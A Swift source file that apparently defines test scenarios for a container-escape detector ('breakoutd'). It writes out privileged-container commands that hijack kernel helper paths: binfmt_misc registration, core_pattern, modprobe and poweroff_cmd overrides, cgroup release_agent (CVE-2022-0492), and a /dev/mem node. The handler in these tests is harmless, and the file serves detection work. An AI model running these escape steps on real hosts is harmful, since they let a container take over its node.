extension Situation {
    /// Programs that the kernel runs by itself, in the files of the pod that set them, and what only a kernel of one's own
    /// is for; last, as the node is not itself any more.
    static let kernelHelpers: [Situation] = [
        Situation(
            name: "module-load",
            options: [
                "--privileged", "--mount", "/usr/lib/modules:/lib/modules:ro", "--mount",
                "/etc/cron.hourly:/cron:shared",
            ],
            act: left("exec modprobe dummy"), findings: ["host-path-binaries", "privileged"],
            sign: "kernel-module-loaded", isOver: "no module tells who loaded it", absence: needsOwnKernel),
        Situation(
            name: "dev-mem-port", place: "module-load", act: left("mknod /memory c 1 1; exec 9</memory; exec sleep 1d"),
            findings: ["holds-kernel-memory"], sign: "holds-kernel-memory", absence: needsOwnKernel),
        setting(
            "binfmt-misc-handler", "kernel-helper-interpreter",
            """
            mount -t binfmt_misc none /proc/sys/fs/binfmt_misc
            mkdir -p "$layer"
            cp /handler "$layer/handler"
            echo ":evil:E::evil::$layer/handler:F" >/proc/sys/fs/binfmt_misc/register
            """, andShows: ["host-path-proc"]),
        setting("poweroff-cmd", "kernel-helper-poweroff", #"echo "$layer/handler -f" >/proc/sys/kernel/poweroff_cmd"#),
        setting("modprobe-path", "kernel-helper-modprobe", #"echo "$layer/handler" >/proc/sys/kernel/modprobe"#),
        setting(
            "core-pattern", "kernel-helper-core-pattern", #"echo "|$layer/handler %P" >/proc/sys/kernel/core_pattern"#),
        setting(
            "release-agent-v1", "kernel-helper-release-agent",
            """
            mkdir /hierarchy
            mount -t cgroup -o freezer cgroup /hierarchy
            echo "$layer/handler" >/hierarchy/release_agent
            """, andShows: ["host-path-sys"],
            absence: { needsOwnKernel($0) ?? ($0.cgroup == "v1" ? nil : "cgroup v2 has no release agent") }),
        setting(
            "release-agent-named", "kernel-helper-release-agent",
            """
            mkdir /named
            mount -t cgroup -o none,name=named none /named
            echo "$layer/handler" >/named/release_agent
            """, detail: "/named/"),
        Situation(
            name: "release-agent-unmounted", place: "module-load",
            act: .later(
                """
                mkdir /unmounted
                mount -t cgroup -o none,name=unmounted none /unmounted
                mkdir /unmounted/group
                umount /unmounted
                """), findings: [], unseen: "what is mounted nowhere cannot be read, which is told as a gap",
            absence: needsOwnKernel),
        Situation(
            name: "core-pattern-run", place: "module-load",
            act: left("ulimit -c unlimited; exec sh -c 'kill -ABRT $$'"),
            findings: [], sign: "kernel-helper-run", isOver: "it is over at once", absence: needsOwnKernel),
        Situation(
            name: "cve-2022-0492", findings: [], absence: { _ in "what it leaves is release-agent-v1" }),
        Situation(
            name: "uevent-helper", findings: [], absence: { _ in "the kernels of distributions have no such setting" }),
        Situation(
            name: "sysrq-or-kmsg", findings: [], absence: { _ in "it ends the node" }),
    ]

    /// A setting of the kernel that names a program in the container's upper layer, which the mount of its root tells.
    ///
    /// The kernel still gets the modules that it asks for: breakoutd needs one of them to see sockets.
    private static func setting(
        _ name: String, _ sign: String, _ script: String, andShows more: [String] = [],
        detail: String? = nil, absence: @escaping @Sendable (NodeKind) -> String? = needsOwnKernel
    ) -> Situation {
        let prelude = """
            layer=$(sed -n 's/^overlay \\/ .*[ ,]upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts)
            printf '#!/bin/sh\\nexec /sbin/modprobe "$@"\\n' >/handler
            chmod 755 /handler

            """
        return Situation(
            name: name, place: "module-load", act: .later(prelude + script), findings: [sign] + more, sign: sign,
            detail: detail, absence: absence)
    }
}
